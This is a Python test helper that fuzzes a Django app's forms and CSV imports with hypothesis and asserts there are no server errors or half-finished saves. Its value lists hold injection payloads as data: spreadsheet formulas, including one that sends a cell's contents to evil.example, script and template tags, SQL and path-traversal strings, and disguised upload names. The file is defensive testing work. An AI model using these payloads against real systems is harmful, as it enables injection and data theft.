"""Hostile input for every form and CSV import: hypothesis strategies, a reader of the fields a
page's form really has, and the check each submission must pass (no 500, nothing half-saved, a
message on the page). Reusable: a new app's forms get the same treatment by adding a
``FormTarget`` (see tests/hostile/test_forms.py)."""

import random
import re
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser

from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, models, transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# How many hostile submissions were made, by form: the report and the issue quote the total.
TRIED: Counter = Counter()

# One set of hypothesis settings for the whole folder: DB-backed examples, no per-example deadline.
HOSTILE_SETTINGS = settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,  # examples are cheap to find again; no .hypothesis folder in the tree
)

# --- Values -----------------------------------------------------------------------------------

HUGE = "Ж" * 60_000  # 120 KB of UTF-8 in one field: far beyond any max_length, under 2 MB
CONTROL = "".join(chr(code) for code in range(1, 32)) + "\x7f\x85\u2028\u2029"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]
NASTY_TEXT = [
    HUGE,
    "\x00",
    "a\x00b",
    CONTROL,
    *FORMULAS,
    "<script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}",
    "' OR 1=1 --",
    "\u202eevil\u202c",  # right-to-left override
    "👩\u200d⚕️🧪\U0001d573",
    "e" + "\u0301" * 200,  # one letter, two hundred accents
    "",
    " ",
    "../../etc/passwd",
    "%00%0d%0a",
    "9" * 400,
    "\ufeff",
    "null",
]
NASTY_NUMBERS = [
    "-1",
    "0",
    "-0",
    "1.5",
    "1e309",
    "NaN",
    "inf",
    "-inf",
    "\uff19",  # a full-width digit
    "0x10",
    "2147483648",
    "-9223372036854775809",
    "99999999999999999999999999999999",
    "1,000",
]
NASTY_DATES = [
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "31/12/2026",
    "12/31/2026",
    "yesterday",
    "2026-1-1\x00",
    "1970-01-01T00:00:00Z",
    "-2026-01-01",
]

hostile_text = st.one_of(st.sampled_from(NASTY_TEXT), st.text(max_size=300))
hostile_number = st.one_of(st.sampled_from(NASTY_NUMBERS), st.integers(-(10**30), 10**30).map(str))
hostile_date = st.one_of(st.sampled_from(NASTY_DATES), st.dates().map(str))
hostile_value = st.one_of(hostile_text, hostile_number, hostile_date)


# --- Forms as the page shows them -------------------------------------------------------------


@dataclass
class FormField:
    name: str
    kind: str  # input type, "select", "textarea"
    options: list[str] = field(default_factory=list)  # select options / checkbox values
    multiple: bool = False


@dataclass
class PageForm:
    action: str
    fields: dict[str, FormField] = field(default_factory=dict)
    hidden: dict[str, str] = field(default_factory=dict)


class _FormParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.forms: list[PageForm] = []
        self._select: FormField | None = None

    def handle_starttag(self, tag, attrs) -> None:
        attrs = dict(attrs)
        if tag == "form" and (attrs.get("method") or "get").lower() == "post":
            self.forms.append(PageForm(action=attrs.get("action") or ""))
            return
        if not self.forms:
            return
        form = self.forms[-1]
        name = attrs.get("name")
        if tag == "input" and name and name != "csrfmiddlewaretoken":
            kind = (attrs.get("type") or "text").lower()
            if kind == "hidden":
                form.hidden[name] = attrs.get("value") or ""
            elif kind in ("submit", "button"):
                form.hidden.setdefault(name, attrs.get("value") or "")
            else:
                known = form.fields.setdefault(name, FormField(name, kind))
                if kind in ("checkbox", "radio"):
                    known.options.append(attrs.get("value") or "on")
                    known.multiple = known.multiple or kind == "checkbox"
        elif tag == "textarea" and name:
            form.fields[name] = FormField(name, "textarea")
        elif tag == "select" and name:
            self._select = form.fields[name] = FormField(
                name, "select", multiple="multiple" in attrs
            )
        elif tag == "option" and self._select is not None:
            self._select.options.append(attrs.get("value") or "")
        elif tag == "button" and name:
            form.hidden.setdefault(name, attrs.get("value") or "")

    def handle_endtag(self, tag) -> None:
        if tag == "select":
            self._select = None


def page_forms(html: str) -> list[PageForm]:
    parser = _FormParser()
    parser.feed(html)
    return parser.forms


def page_form(html: str, action: str) -> PageForm:
    """The POST form on the page that submits to ``action`` ("" or the page itself: the form
    without an action)."""
    forms = page_forms(html)
    for form in forms:
        if form.action == action:
            return form
    raise AssertionError(f"no form posting to {action!r}; forms: {[f.action for f in forms]}")


# Uploads: names and contents a browser (or an attacker) could send to a file field.
UPLOAD_NAMES = [
    "notes.pdf",
    "slides.pptx",
    "photo.PNG",
    "x.exe",
    "archive.pdf.exe",
    "../../etc/passwd.pdf",
    "a\x00.pdf",
    "no-extension",
    ".pdf",
    "Ж" * 300 + ".pdf",
    "<script>.pdf",
]
UPLOAD_CONTENTS = [
    b"%PDF-1.4\n%fake but well-started pdf\n",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
    b"PK\x03\x04" + b"\x00" * 64,
    b"MZ\x90\x00 this is a windows program",
    b"",
    b"<html><script>alert(1)</script></html>",
]
hostile_upload = st.builds(
    lambda name, content: SimpleUploadedFile(name, content, content_type="application/pdf"),
    st.sampled_from(UPLOAD_NAMES),
    st.one_of(st.sampled_from(UPLOAD_CONTENTS), st.binary(max_size=2000)),
)


def _value_for(form_field: FormField) -> st.SearchStrategy:
    name = form_field.name.lower()
    if form_field.kind == "file":
        return st.one_of(hostile_upload, hostile_upload, hostile_text)
    if "date" in name or form_field.kind == "date":
        typed = hostile_date
    elif form_field.kind == "number" or any(w in name for w in ("minimum", "count", "days")):
        typed = hostile_number
    else:
        typed = hostile_text
    if form_field.options:
        good = st.sampled_from(form_field.options)
        one = st.one_of(good, good, typed, hostile_value)  # mostly a real choice
        if form_field.multiple:
            return st.lists(one, max_size=4)
        return one
    return st.one_of(typed, typed, hostile_value)


def hostile_form_data(
    form: PageForm, extra: dict[str, st.SearchStrategy] | None = None
) -> st.SearchStrategy[dict]:
    """Every field of ``form``, each a real choice or a hostile value, some left out.
    ``extra`` adds or replaces fields (a button the page only shows later, the real password
    now and then so that a signature can succeed); a value of ``None`` leaves the field out."""
    per_field = {
        name: st.one_of(st.none(), _value_for(form_field), _value_for(form_field))
        for name, form_field in form.fields.items()
    }
    per_field.update(extra or {})

    def build(values: dict) -> dict:
        # A browser always sends the CSRF field (the test client does not check it), so a form
        # with every field left out still arrives as a non-empty POST, as it would for real.
        data = {"csrfmiddlewaretoken": "x", **form.hidden}
        data.update({name: value for name, value in values.items() if value is not None})
        return data

    return st.fixed_dictionaries(per_field).map(build)


# --- CSV files --------------------------------------------------------------------------------


def _encode(text: str, encoding: str) -> bytes:
    if encoding == "binary":
        noise = random.Random(len(text))  # noqa: S311 (test data, not secrets)
        return bytes(noise.getrandbits(8) for _ in range(min(len(text), 4000)))
    if encoding == "xlsx":
        return b"PK\x03\x04" + text.encode("utf-8", "replace")
    return text.encode(encoding, "replace")


def _csv_line(cells: Iterable[str]) -> str:
    out = []
    for cell in cells:
        cell = str(cell)
        if any(ch in cell for ch in ',"\r\n'):
            cell = '"' + cell.replace('"', '""') + '"'
        out.append(cell)
    return ",".join(out)


@st.composite
def hostile_csv(draw, columns: tuple[str, ...], good_rows: list[dict] | None = None) -> bytes:
    """A CSV file shaped like an import of ``columns``, made hostile: a wrong, doubled or short
    header, rows of hostile cells (or real rows with one hostile cell), broken quoting, and a
    wrong encoding (latin-1, UTF-16, random bytes, a spreadsheet workbook)."""
    header = list(columns)
    shape = draw(st.sampled_from(["ok", "ok", "ok", "duplicate", "missing", "extra", "blank"]))
    if shape == "duplicate":
        header.append(draw(st.sampled_from(columns)))
    elif shape == "missing":
        header.remove(draw(st.sampled_from(columns)))
    elif shape == "extra":
        header.append(draw(hostile_text.filter(lambda s: "\n" not in s and "\r" not in s)))
    elif shape == "blank":
        header.insert(draw(st.integers(0, len(header))), "")
    rows = []
    for _ in range(draw(st.integers(0, 5))):
        if good_rows and draw(st.booleans()):
            row = dict(draw(st.sampled_from(good_rows)))
            row[draw(st.sampled_from(columns))] = draw(hostile_value)
            rows.append([row.get(name, "") for name in header])
        else:
            small = hostile_value.filter(lambda s: len(s) < 500)
            rows.append(draw(st.lists(small, min_size=0, max_size=len(header) + 2)))
    text = "\n".join([_csv_line(header), *(_csv_line(row) for row in rows)]) + "\n"
    if draw(st.integers(0, 9)) == 0:
        text += '"an unclosed quote,\n'
    encoding = draw(
        st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "latin-1", "utf-16", "binary", "xlsx"])
    )
    return _encode(text, encoding)


def million_line_csv(columns: tuple[str, ...], *, blank: bool = False) -> bytes:
    """A header and a million rows: blank rows (2 MB less a little) or data rows (far more)."""
    line = "\n" if blank else ",".join("x" for _ in columns) + "\n"
    return (",".join(columns) + "\n").encode() + (line * 1_000_000).encode()[:2_000_000]


def upload(content: bytes, name: str = "import.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="text/csv")


# --- The check ---------------------------------------------------------------------------------

MESSAGE_MARKERS = re.compile(
    r'class="[^"]*\b(alert|invalid-feedback|is-invalid|errorlist|text-danger)\b'
)


def row_counts(model_list: Iterable[type[models.Model]]) -> dict[str, int]:
    return {model._meta.label: model._default_manager.count() for model in model_list}


def table_state(model_list: Iterable[type[models.Model]]) -> dict[str, tuple]:
    """Per table: its row count and (on PostgreSQL) an MD5 of every row's content, in ONE query,
    so that an update that half happened shows up, not only a row too many. SQLite: counts."""
    model_list = list(model_list)
    quote = connection.ops.quote_name
    parts = []
    for model in model_list:
        table = quote(model._meta.db_table)
        # Table names from the models, quoted: no outside input reaches this SQL.
        parts.append(f"(SELECT count(*) FROM {table})")  # noqa: S608
        if connection.vendor == "postgresql":
            digest = "md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), ''))"
            parts.append(f"(SELECT {digest} FROM {table} t)")  # noqa: S608
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + ", ".join(parts))
        row = cursor.fetchone()
    step = 2 if connection.vendor == "postgresql" else 1
    return {
        model._meta.label: tuple(row[i * step : i * step + step])
        for i, model in enumerate(model_list)
    }


def _counts(state: dict[str, tuple]) -> dict[str, int]:
    return {label: value[0] for label, value in state.items()}


def _changed(before: dict[str, tuple], after: dict[str, tuple]) -> list[str]:
    return [label for label in before if before[label] != after[label]]


def assert_no_500_no_partial_save(
    client,
    path: str,
    data: dict,
    *,
    watch: Iterable[type[models.Model]],
    label: str,
    must_not_save: bool = False,
    saved_ok: Callable[[dict, dict], bool] | None = None,
    isolate: bool = False,
    step_marker: str | None = None,
):
    """POST ``data`` to ``path`` and follow redirects. There must be no server error (the test
    client raises the view's exception); if no watched table changed, the page must carry a
    message (an alert or a field error) saying why; when the form came back (a 200 without a
    redirect: refused) no watched table may have changed at all, not even one field of one row;
    with ``must_not_save`` nothing may change (an import preview, say); otherwise any change
    must satisfy ``saved_ok(before_counts, after_counts)`` (e.g. "at most one row more per
    table": a whole save, never part of one).

    ``isolate``: run the submission in a savepoint rolled back afterwards, with the cache
    cleared (rate limits), so each example starts from the same data: a one-shot form (a
    return, a signature, a single-use link) is tried afresh every time.

    ``step_marker``: text on a legitimate intermediate page that saves nothing and needs no
    message (a confirmation listing what is about to be saved)."""
    if isolate:
        cache.clear()
        with transaction.atomic():
            response = assert_no_500_no_partial_save(
                client,
                path,
                data,
                watch=watch,
                label=label,
                must_not_save=must_not_save,
                saved_ok=saved_ok,
                step_marker=step_marker,
            )
            transaction.set_rollback(True)
        return response
    watch = list(watch)
    before = table_state(watch)
    response = client.post(path, data)
    TRIED[label] += 1
    assert response.status_code < 500, f"{label}: {response.status_code}"
    after = table_state(watch)
    changed = _changed(before, after)
    refused = response.status_code == 200
    if response.status_code in (301, 302, 303) and not changed:
        # Nothing saved: the page redirected to must say why. (After a save the next page is
        # not fetched: it would only cost time.)
        response = client.get(response["Location"], follow=True)
        assert response.status_code < 500, f"{label}: {response.status_code} after redirect"
    # A message not shown stays in the cookie: drop it so the next example does not see it.
    client.cookies.pop("messages", None)
    body = response.content.decode(errors="replace") if response.content else ""
    if must_not_save or refused:
        assert not changed, (
            f"{label}: {'form refused' if refused else 'must not save'} but rows changed in "
            f"{changed}: {_counts(before)} -> {_counts(after)}"
        )
    if not changed:
        if response.status_code == 200 and not (step_marker and step_marker in body):
            assert MESSAGE_MARKERS.search(body), f"{label}: nothing saved and no message shown"
    elif saved_ok is not None:
        assert saved_ok(_counts(before), _counts(after)), (
            f"{label}: partial save {_counts(before)} -> {_counts(after)}"
        )
    return response
